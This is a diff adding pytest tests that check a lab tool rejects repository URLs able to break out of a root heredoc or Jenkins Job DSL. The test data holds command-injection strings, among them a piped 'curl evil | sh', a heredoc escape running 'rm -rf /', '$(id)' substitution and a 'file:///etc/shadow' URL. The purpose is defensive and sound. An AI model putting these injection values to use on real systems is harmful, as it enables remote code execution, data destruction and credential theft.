@@ -387,3 +387,37 @@ def test_vpclab_ssh_ignores_the_operators_config(tmp_path: Path, monkeypatch):
     assert config["forwardagent"] == "no" and config["forwardx11"] == "no"
     assert config["stricthostkeychecking"] == "true"
     assert "proxyjump" not in config and "evil.example" not in shown.stdout
+
+
+# --- VPCLAB_REPO_URL: checked before it reaches a root heredoc or the Job DSL --------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://github.com/o/r.git'; curl evil | sh; echo '",
+        'https://github.com/o/r"\nEOF\nrm -rf /',
+        "https://github.com/o/$(id)",
+        "http://github.com/o/r.git",
+        "file:///etc/shadow",
+        "https://github.com/o/r.git extra",
+    ],
+)
+def test_a_repo_url_that_could_break_out_is_refused_in_one_line(url: str, monkeypatch):
+    from vpclab.aws import jenkins_setup
+
+    monkeypatch.setenv(jenkins_setup.REPO_ENV, url)
+    with pytest.raises(VpclabError, match="is not a plain https URL") as exc:
+        jenkins_setup.repo_url("Jenkins on aws")
+    assert "\n" not in exc.value.line()
+
+
+def test_a_plain_repo_url_is_used(monkeypatch):
+    from vpclab.aws import jenkins_setup
+
+    url = "https://github.com/owner/microblog_VPC_deployment.git"
+    monkeypatch.setenv(jenkins_setup.REPO_ENV, url)
+    assert jenkins_setup.repo_url("Jenkins on aws") == url
+    monkeypatch.delenv(jenkins_setup.REPO_ENV)
+    with pytest.raises(VpclabError, match="needs the project's repository"):
+        jenkins_setup.repo_url("Jenkins on aws")
